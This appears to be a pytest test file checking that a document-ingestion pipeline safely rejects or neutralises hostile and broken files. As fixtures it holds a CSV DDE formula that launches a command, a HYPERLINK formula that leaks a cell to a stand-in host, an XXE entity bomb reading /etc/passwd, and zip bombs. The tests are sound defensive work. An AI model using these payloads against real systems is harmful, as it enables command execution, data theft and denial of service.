"""Files that mean harm, or are simply broken: the run goes on, says so plainly, and nothing is carried out."""

import io
import os
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from pipeline.ingest import files, read_corpus
from pipeline.records import Corpus, Document

GOOD = "The bench by the pond is broken.\n"


def document(corpus: Corpus, name: str) -> Document:
    (found,) = [one for one in corpus.documents if one.name == name]
    return found


def said_of(corpus: Corpus, name: str) -> str:
    """The reason why a file was not read; the good file beside it always is."""
    assert document(corpus, "good.txt").text == GOOD.strip()
    (reject,) = [one for one in corpus.rejects if one.source == name]
    assert reject.document_id is None
    assert reject.locator == "whole file"
    return reject.reason


@pytest.fixture(name="folder")
def _folder(tmp_path: Path) -> Path:
    (tmp_path / "good.txt").write_text(GOOD, "utf-8")
    return tmp_path


def test_a_script_in_a_comment_is_text(folder: Path) -> None:
    words = "<script>alert('1 > 0')</script> is what I wrote"
    (folder / "notes.txt").write_text(f"- Nice bench.\n- {words}\n", "utf-8")
    corpus = read_corpus([folder])
    assert words in [segment.text for segment in corpus.segments]


def test_a_script_in_a_web_page_is_left_out_and_its_page_is_read(folder: Path) -> None:
    (folder / "page.html").write_text("<p>Before</p><script>document.write('harm')</script><p>After</p>", "utf-8")
    assert document(read_corpus([folder]), "page.html").text == "Before\nAfter"


def workbook(write: Callable[[object], None]) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    write(book.active)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def test_a_formula_in_a_cell_is_text_and_is_not_worked_out(folder: Path) -> None:
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"click")'

    def write(sheet: object) -> None:
        sheet.append(["Respondent", "What should change?"])  # type: ignore[attr-defined]
        sheet.append([1, formula])  # type: ignore[attr-defined]
        sheet.append([2, "=1+1"])  # type: ignore[attr-defined]

    (folder / "answers.xlsx").write_bytes(workbook(write))
    (folder / "answers.csv").write_text(
        "Respondent,What should change?\n1,\"=cmd|' /C calc'!A0\"\n2,@SUM(1)\n", "utf-8"
    )
    corpus = read_corpus([folder])
    assert formula in document(corpus, "answers.xlsx").text
    assert "=1+1" in document(corpus, "answers.xlsx").text
    assert "=cmd|' /C calc'!A0" in document(corpus, "answers.csv").text
    assert "@SUM(1)" in document(corpus, "answers.csv").text


@pytest.mark.parametrize("name", ["huge.txt", "huge.csv", "huge.docx", "huge.pdf", "huge.eml"])
def test_a_file_of_50_mb_is_refused_with_its_limit(folder: Path, name: str) -> None:
    (folder / name).write_bytes(b"word " * (10 * 2**20))
    assert "larger than 32 MB. Split it" in said_of(read_corpus([folder]), name)


@pytest.mark.parametrize(
    "name", ["none.txt", "none.docx", "none.pdf", "none.xlsx", "none.html", "none.eml", "none.csv"]
)
def test_an_empty_file_is_said_to_be_empty(folder: Path, name: str) -> None:
    (folder / name).write_bytes(b"")
    assert "the file is empty (0 bytes" in said_of(read_corpus([folder]), name)


def zipped(parts: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return stream.getvalue()


@pytest.mark.parametrize("name", ["bomb.docx", "bomb.odt", "bomb.xlsx"])
def test_a_zip_bomb_is_not_unpacked(folder: Path, name: str) -> None:
    (folder / name).write_bytes(zipped({"word/document.xml": b" " * 2**27, "content.xml": b" " * 2**20}))
    assert "would unpack to far more" in said_of(read_corpus([folder]), name)


def test_a_zip_bomb_that_lies_about_its_size_is_caught(folder: Path) -> None:
    data = bytearray(zipped({"word/document.xml": b" " * 2**25}))
    size = (2**25).to_bytes(4, "little")
    small = (1000).to_bytes(4, "little")
    (folder / "liar.docx").write_bytes(bytes(data).replace(size, small))
    assert "damaged" in said_of(read_corpus([folder]), "liar.docx")


def test_entities_are_never_expanded(folder: Path) -> None:
    bomb = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY f SYSTEM "file:///etc/passwd">]><x>&b;&f;</x>'
    for name in ("entities.docx", "entities.odt", "entities.xlsx"):
        (folder / name).write_bytes(zipped({"word/document.xml": bomb, "content.xml": bomb, "xl/workbook.xml": bomb}))
    corpus = read_corpus([folder])
    for name in ("entities.docx", "entities.odt", "entities.xlsx"):
        assert "declares its own XML entities" in said_of(corpus, name)


@pytest.mark.parametrize("name", ["broken.docx", "broken.odt", "broken.xlsx"])
def test_a_truncated_package_is_said_to_be_damaged(folder: Path, name: str) -> None:
    (folder / name).write_bytes(zipped({"word/document.xml": bytes(range(256)) * 400})[:900])
    assert "damaged" in said_of(read_corpus([folder]), name)


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("picture.docx", b"\x89PNG\r\n\x1a\n" + bytes(100), "not a Word file"),
        ("text.pdf", b"only words", "not a PDF"),
        ("half.pdf", b"%PDF-1.7\n1 0 obj\n<</Type", "damaged"),
        ("other.rtf", b"PK\x03\x04 no rtf at all", "not an RTF file"),
        ("old.doc", b"\xd0\xcf\x11\xe0", "old Word file"),
        ("photo.jpg", b"\xff\xd8\xff", "are not read"),
        ("late.docx", bytes.fromhex("d0cf11e0a1b11ae1") + "EncryptedPackage".encode("utf-16-le"), "a password"),
        ("past.docx", bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600), "older format"),
    ],
)
def test_a_file_that_is_not_what_its_name_says(folder: Path, name: str, data: bytes, words: str) -> None:
    (folder / name).write_bytes(data)
    assert words in said_of(read_corpus([folder]), name)


def test_a_link_that_leads_in_a_circle(folder: Path) -> None:
    (folder / "inner").mkdir()
    (folder / "inner" / "again").symlink_to(folder, target_is_directory=True)
    (folder / "round.txt").symlink_to(folder / "about.txt")
    (folder / "about.txt").symlink_to(folder / "round.txt")
    corpus = read_corpus([folder])
    assert "a link to a folder, which is not followed" in said_of(corpus, "inner/again")
    assert "a link that leads" in said_of(corpus, "round.txt")
    assert "a link that leads" in said_of(corpus, "about.txt")


def test_a_folder_that_may_not_be_opened(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Root may open everything, so the refusal is made up where the folder is listed."""
    (folder / "locked").mkdir()
    (folder / "locked" / "secret.txt").write_text("nobody sees this", "utf-8")
    scandir = os.scandir

    def refuse(path: str | Path) -> object:
        if Path(path).name == "locked":
            raise PermissionError(13, "Permission denied", str(path))
        return scandir(path)

    monkeypatch.setattr(files.os, "scandir", refuse)
    assert "the folder cannot be opened (Permission denied)" in said_of(read_corpus([folder]), "locked")


def test_a_file_that_may_not_be_opened(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (folder / "secret.txt").write_text("nobody sees this", "utf-8")
    read = Path.read_bytes

    def refuse(path: Path) -> bytes:
        if path.name == "secret.txt":
            raise PermissionError(13, "Permission denied", str(path))
        return read(path)

    monkeypatch.setattr(Path, "read_bytes", refuse)
    assert "you may not open it" in said_of(read_corpus([folder]), "secret.txt")


def test_no_bytes_at_all_stop_a_run(folder: Path) -> None:
    """Every byte there is, under every name: each file is read or rejected, and the good one is read."""
    junk = bytes(range(256)) * 8
    suffixes = ("txt", "md", "html", "docx", "odt", "rtf", "pdf", "csv", "xlsx", "eml")
    for number, suffix in enumerate(suffixes):
        (folder / f"junk.{suffix}").write_bytes(junk + bytes([number]))
    corpus = read_corpus([folder])
    assert document(corpus, "good.txt").text == GOOD.strip()
    names = {one.name for one in corpus.documents} | {one.source for one in corpus.rejects if one.document_id is None}
    assert names == {"good.txt", *(f"junk.{suffix}" for suffix in suffixes)}
